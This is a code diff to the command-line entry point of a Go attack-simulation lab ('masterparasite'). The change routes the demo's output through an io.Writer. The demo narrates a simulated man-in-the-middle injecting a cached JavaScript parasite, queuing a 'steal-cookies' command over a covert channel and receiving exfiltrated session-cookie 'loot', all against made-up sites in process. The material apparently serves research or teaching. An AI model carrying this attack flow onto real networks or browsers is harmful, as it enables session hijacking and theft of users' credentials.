@@ -7,6 +7,7 @@ package main
 import (
 	"flag"
 	"fmt"
+	"io"
 	"os"
 
 	"masterparasite/internal/attacker"
@@ -16,13 +17,13 @@ import (
 )
 
 func main() {
-	if err := run(os.Args[1:]); err != nil {
+	if err := run(os.Args[1:], os.Stdout); err != nil {
 		fmt.Fprintln(os.Stderr, "attacklab:", err)
 		os.Exit(1)
 	}
 }
 
-func run(args []string) error {
+func run(args []string, stdout io.Writer) error {
 	fs := flag.NewFlagSet("attacklab", flag.ContinueOnError)
 	profile := fs.String("browser", "Chrome", "victim browser profile")
 	if err := fs.Parse(args); err != nil {
@@ -54,23 +55,23 @@ func run(args []string) error {
 			ParasitePayload: "demo", Original: []byte("function original(){}")})
 	}
 
-	fmt.Printf("victim: %s on public WiFi; master tapping the segment\n\n", s.Victim.Profile.UserAgent())
+	fmt.Fprintf(stdout, "victim: %s on public WiFi; master tapping the segment\n\n", s.Victim.Profile.UserAgent())
 
-	fmt.Println("[1] victim visits somesite.com — master injects the parasite (Fig. 2)")
+	fmt.Fprintln(stdout, "[1] victim visits somesite.com — master injects the parasite (Fig. 2)")
 	if _, err := s.Visit("somesite.com", "/"); err != nil {
 		return err
 	}
-	fmt.Printf("    injections: %d, infected origins: %v\n\n",
+	fmt.Fprintf(stdout, "    injections: %d, infected origins: %v\n\n",
 		s.Master.Stats().Injections, s.Registry.InfectedOrigins("bot-demo"))
 
-	fmt.Println("[2] victim moves to the home network — master off-path")
+	fmt.Fprintln(stdout, "[2] victim moves to the home network — master off-path")
 	s.LeaveAttackerNetwork()
 	s.Victim.Cookies().Set("top1.com", "session", "s3cr3t-token")
 
-	fmt.Println("[3] master queues a command through the covert channel (Fig. 4)")
+	fmt.Fprintln(stdout, "[3] master queues a command through the covert channel (Fig. 4)")
 	s.CNC.QueueCommand("bot-demo", []byte("steal-cookies|"))
 
-	fmt.Println("[4] victim visits top1.com — parasite executes from cache")
+	fmt.Fprintln(stdout, "[4] victim visits top1.com — parasite executes from cache")
 	page, err := s.Visit("top1.com", "/")
 	if err != nil {
 		return err
@@ -81,14 +82,14 @@ func run(args []string) error {
 			infected = true
 		}
 	}
-	fmt.Printf("    parasite executed from cache: %v\n", infected)
+	fmt.Fprintf(stdout, "    parasite executed from cache: %v\n", infected)
 
 	loot, ok := s.CNC.Upload("bot-demo", "cookies")
 	if !ok {
 		return fmt.Errorf("no exfiltrated data arrived at the master")
 	}
-	fmt.Printf("\n[5] master received exfiltrated loot: %q\n", loot)
-	fmt.Printf("\nparasite registry: polls=%d commands=%d anchors=%d\n",
+	fmt.Fprintf(stdout, "\n[5] master received exfiltrated loot: %q\n", loot)
+	fmt.Fprintf(stdout, "\nparasite registry: polls=%d commands=%d anchors=%d\n",
 		s.Registry.Polls(), s.Registry.Commands(), s.Registry.Anchors())
 	return nil
 }
